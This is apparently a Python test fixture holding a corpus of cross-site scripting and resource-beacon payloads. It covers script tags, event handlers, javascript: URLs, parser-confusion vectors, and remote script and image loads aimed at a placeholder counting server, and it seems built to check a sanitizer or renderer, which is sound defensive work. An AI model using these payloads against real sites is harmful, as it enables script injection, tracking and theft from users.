"""Texts that try to run code or to ask an address for something, each in its own way.

`{run}` is JavaScript that leaves a mark, `{address}` a server that counts what it is asked for.
"""

from __future__ import annotations

RUN = "top.pwned=1"

CORPUS = (
    # scripts
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<script src={address}/s.js></script>",
    "<script type=module src={address}/m.js></script>",
    "<script>/*</script><script>*/{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script\x0c>{run}</script>",
    "<<script>{run}//<</script>",
    "\ufeff<script>{run}</script>",
    "<script>import('{address}/i.js')</script>",
    # handlers
    '<img src=x onerror="{run}">',
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<IMG SRC=x ONERROR={run}>",
    "<img src='x'\nonerror='{run}'>",
    "<img src=x onerror=&#116;op.pwned=1>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<body onload={run}>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<marquee onstart={run}>x</marquee>",
    "<div style='animation:x 1ms' onanimationstart={run}>x</div><style>@keyframes x{{}}</style>",
    "<object data=x onerror={run}></object>",
    "<a onmouseover={run} style='position:fixed;inset:0'>x</a>",
    # addresses with code
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<form action='javascript:{run}'><input type=submit autofocus></form>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:{run}'>x</maction></math>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}></svg>#x'/></svg>",
    # changes of parser
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><img src=x onerror={run}></template>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "'\"><img src=x onerror={run}>",
    "`\"'><img src=x onerror={run}>",
    # addresses alone
    "<img src='{address}/beacon.png'>",
    "<img srcset='{address}/set.png 1x'>",
    "<picture><source srcset='{address}/p.png'><img></picture>",
    "<link rel=stylesheet href='{address}/s.css'>",
    "<link rel=prefetch href='{address}/prefetch'>",
    "<link rel=icon href='{address}/icon'>",
    "<style>@import '{address}/i.css';</style>",
    "<style>body{{background:url({address}/b.png)}}</style>",
    "<div style='background:url({address}/d.png)'>x</div>",
    "<iframe src='{address}/frame'></iframe>",
    "<object data='{address}/object'></object>",
    "<embed src='{address}/embed'>",
    "<video src='{address}/v.mp4' poster='{address}/poster.png' autoplay></video>",
    "<svg><image href='{address}/i.png'/></svg>",
    "<svg><filter id=f><feImage href='{address}/fe.png'/></filter></svg>",
    "<base href='{address}/'><img src=relative.png>",
    # Markdown and templates
    "![x]({address}/markdown.png)",
    "[x](javascript:{run})",
    "<{address}/auto>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "__proto__",
    "constructor",
)
"""Braces are doubled for `str.format`."""

NAVIGATIONS = ("<meta http-equiv=refresh content='0;url={address}/refresh'>",)
"""A content security policy in a page does not govern where a page goes: the renderer alone prevents these."""

APART = "\n'\"`>--></textarea></title></style></xmp></noscript></script>\n"
"""Between texts that share one place: closes what the text before may have left open."""


def payloads(address: str, *, navigations: bool = True) -> list[str]:
    """Return the texts with their code and the address of the counting server."""
    chosen = CORPUS + NAVIGATIONS if navigations else CORPUS
    return [text.format(run=RUN, address=address) for text in chosen]
